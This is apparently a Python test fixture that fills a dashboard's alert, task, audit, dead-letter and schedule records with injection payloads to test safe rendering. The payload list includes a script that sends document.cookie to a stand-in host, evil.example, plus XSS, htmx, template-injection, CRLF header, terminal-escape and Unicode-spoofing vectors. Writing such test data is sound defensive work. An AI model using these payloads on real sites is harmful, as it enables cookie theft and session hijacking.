"""Two hundred payloads for every field: script, markup, terminal escapes, bidirectional text."""

from collections.abc import Sequence
from datetime import datetime
from typing import Any

from orchestrator.cron import Crontab
from orchestrator.db.models import AlertRow, AuditRow, Base, DeadLetterRow, ScheduleTickRow
from orchestrator.task import TaskState
from tests.dashboard.seed import Morning
from tests.dashboard.timetable import schedule

RUN = "window.pwned=1;fetch('//evil.example/'+document.cookie)"
# Ways out of what a value may stand in: text, attributes, elements whose text ends at their tag.
OUT_OF = ("", '">', "'>", "</textarea></title></script></pre></svg></template>", "--></style>")
VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src=//evil.example/a.js>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN!r}>",
    f"<svg/onload={RUN!r}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN!r}>",
    f"<input autofocus onfocus={RUN!r}>",
    f"<details open ontoggle={RUN!r}>",
    f"<iframe srcdoc='<script>parent.pwned=1</script>' src='javascript:{RUN}'></iframe>",
    "<img src=//evil.example/beacon.png>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "<form action=//evil.example/><input name=csrf></form>",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "<div hx-post=/sign-out hx-trigger='load' hx-on::load='window.pwned=1'></div>",
    f"<div hx-on:htmx:load={RUN!r} data-hx-trigger='every 1s [window.pwned=1]'></div>",
    "<template><tr hx-swap-oob=true id=list></tr></template>",
    f"{{{{ ''.__class__.__mro__ }}}}${{{RUN}}}#{{{RUN}}}<%= {RUN} %>",
    "{% include '/etc/passwd' %}{# comment #}",
    f"x onmouseover={RUN!r} autofocus tabindex=1 style=position:fixed;inset:0",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;&#60;img src=x onerror=window.pwned=1&#62;",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<video><source onerror=window.pwned=1></video><audio src=//evil.example/a autoplay>",
    "<x id=live><x id=list><x id=status name=csrf>",
    "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m\x90q\x9c\x08\x08\x08\x0c\x0e",
    "\u202egnp.exe\u202c \u2066\u2067isolated\u2069 \u200frtl\u200e \u061c",
    "admin\u200b\u200c\u200d\u2060\ufeff\u00adistrator",
    "\U000e0041\U000e0042 tags \u2028line\u2029paragraph",
    "\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
    "𝕾𝖈𝖗𝖎𝖕𝖙 ＜script＞window.pwned=1＜/script＞",  # noqa: RUF001 - that is the point
    "Z̸̢̛̹a̷l̶g̵o̴" * 20,
    "A" * 4000,
)
PAYLOADS: Sequence[str] = [out + vector for vector in VECTORS for out in OUT_OF]


def rows(now: datetime) -> list[Base]:
    """One of each kind for each payload, with it in every text; an alert and a task have all."""
    of = Morning(now)
    for payload in PAYLOADS:
        of.rows.append(_alert(of, payload, {payload: payload, "list": [payload]}))
        _task(of, payload, {payload: payload, "nested": {"a": [payload]}})
        _others(of, payload)
    everything = dict(zip(PAYLOADS, PAYLOADS, strict=True))
    of.rows.append(_alert(of, PAYLOADS[0], everything))
    _task(of, PAYLOADS[0], everything)
    return of.rows


def _alert(of: Morning, payload: str, details: dict[str, Any]) -> AlertRow:
    return AlertRow(
        id=of.id(of.now), kind="network", source=payload, severity="high", signature=payload,
        category=payload, action=payload, src_ip=payload, dest_ip=payload, proto=payload,
        app_proto=payload, direction=payload, host=payload, occurred_at=of.now,
        received_at=of.now, details=details, task_ids=[], acknowledged_at=of.now,
        acknowledged_by=payload,
    )  # fmt: skip


def _task(of: Morning, payload: str, given: dict[str, Any]) -> None:
    row = of.task(
        payload, TaskState.FAILED, of.now, given, attempt=2, output={"said": given},
        error={"type": payload, "message": payload, "stack": payload}, queue=payload,
        priority=payload, tenant=payload, idempotency_key=payload, cancel_requested_by=payload,
        meta={"alert_id": payload, "schedule_id": f"javascript:{payload}", payload: payload},
    )  # fmt: skip
    row.worker = payload


def _others(of: Morning, payload: str) -> None:
    of.rows.append(
        DeadLetterRow(
            id=of.id(of.now), stream=payload, entry_id=of.id(of.now), agent=payload,
            reason="malformed", detail=payload, fields={"data": payload, payload: payload},
            created_at=of.now,
        )
    )  # fmt: skip
    of.rows.append(
        AuditRow(
            id=of.id(of.now), at=of.now, action=payload, actor=payload, object_type=payload,
            object_id=payload, before={payload: payload}, after={"a": payload},
            detail={"b": [payload]}, producer=payload,
        )
    )  # fmt: skip
    row = schedule(
        payload, Crontab(expression="0 0 1 1 *", name=payload, input={payload: payload}), of.now,
        id=of.id(of.now),
    )  # fmt: skip
    of.rows.append(row)
    of.rows.append(
        ScheduleTickRow(
            schedule_id=row.id, fire_at=of.now, revision=1, outcome="missed", reason=payload,
            decided_by=payload,
        )
    )  # fmt: skip
